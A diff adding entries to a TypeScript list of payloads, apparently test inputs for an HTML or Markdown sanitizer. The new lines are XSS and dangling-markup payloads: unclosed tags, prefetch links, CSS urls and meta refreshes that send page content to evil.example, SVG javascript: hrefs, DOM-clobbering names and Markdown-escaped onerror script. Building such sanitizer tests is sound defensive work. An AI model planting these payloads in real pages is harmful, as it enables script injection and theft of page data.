@@ -90,4 +90,38 @@ export const payloads: readonly string[] = [
   '<custom-element onclick=alert(1)><slot onslotchange=alert(1)>a</slot></custom-element>',
   '<footnote label="&quot;><script>alert(1)</script>">a</footnote><callout kind="&quot;><script>">b</callout>',
   '<math-x><constructor>a</constructor><__proto__>b</__proto__><toString>c</toString></math-x>',
+  // Markup that never ends, and swallows what follows.
+  '<p>a</p><img src="https://evil.example/?',
+  "<p>a</p><a href='https://evil.example/?",
+  '<p>a</p><textarea><p>b',
+  '<p>a</p><button name=xss type=submit formaction=https://evil.example/ ><p>b',
+  // What asks for something without a click.
+  '<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example><p>a</p>',
+  '<p style="background:url(//evil.example/x.png)">a</p><ul style="list-style:url(//evil.example/y.png)"><li>b</ul>',
+  '<style>p{background:url(//evil.example/x.png)}</style><p>a</p>',
+  '<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>a<td>b</table>',
+  '<p>a</p><input type=image src=//evil.example/x.png><video><track default src=//evil.example/x.vtt></video>',
+  '<p>a</p><iframe src=//evil.example/></iframe><frameset><frame src=//evil.example/></frameset>',
+  '<meta http-equiv=refresh content="0;url=//evil.example/"><p>a</p>',
+  // Drawings that change themselves.
+  '<svg><a><set attributeName=href to=javascript:alert(1) /><text>a</text></a></svg><p>b</p>',
+  '<svg><animate attributeName=href values=javascript:alert(1) onbegin=alert(1) /><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg><p>b</p>',
+  '<svg><image href=x onerror=alert(1) /></svg><p>b</p>',
+  // Names that hide those of the page around.
+  '<img name=querySelector src=x><a id=documentElement href=javascript:alert(1)>a</a><form id=sink><input name=innerHTML></form>',
+  '<h2 id=alert>a</h2><h2 id="__proto__">b</h2><h2 id=constructor>c</h2>',
+  // Text that is markup for whoever reads Markdown.
+  '<p>[a](javascript:alert(1)) ![b](x "onerror=alert(1)") &lt;javascript:alert(1)&gt;</p>',
+  '<p>[a]: javascript:alert(1)</p><p>[a] and [b][a]</p>',
+  '<p>`&lt;img src=x onerror=alert(1)&gt;` and ``&lt;script&gt;alert(1)&lt;/script&gt;</p>',
+  '<pre>```\n&lt;img src=x onerror=alert(1)&gt;\n~~~\n&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
+  '<p><code>`</code>&lt;img src=x onerror=alert(1)&gt;<code>`</code></p>',
+  '<p>\\&lt;img src=x onerror=alert(1)&gt; \\\\&lt;script&gt;alert(1)&lt;/script&gt;</p>',
+  '<p>a</p><img src=x.png alt="](javascript:alert(1)) &lt;img src=x onerror=alert(1)&gt;"><p>b</p>',
+  '<p><a href="/x) onerror=alert(1) (" title="&quot;) [a](javascript:alert(1)">&lt;img src=x onerror=alert(1)&gt;</a></p>',
+  '<table><tr><th>a|b<th>&lt;img src=x onerror=alert(1)&gt;<tr><td>`|<td>&lt;script&gt;alert(1)&lt;/script&gt;`</table>',
+  '<ul><li>[ ] &lt;img src=x onerror=alert(1)&gt;<li>&lt;!-- <li>--&gt;&lt;script&gt;alert(1)&lt;/script&gt;</ul>',
+  '<p>    &lt;div&gt;</p><p>&lt;/div&gt;&lt;img src=x onerror=alert(1)&gt;</p>',
+  '<p>$$&lt;img src=x onerror=alert(1)&gt;$$ \\(&lt;script&gt;alert(1)&lt;/script&gt;\\)</p>',
+  '<h2>&lt;img src=x onerror=alert(1)&gt; #</h2><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
 ];
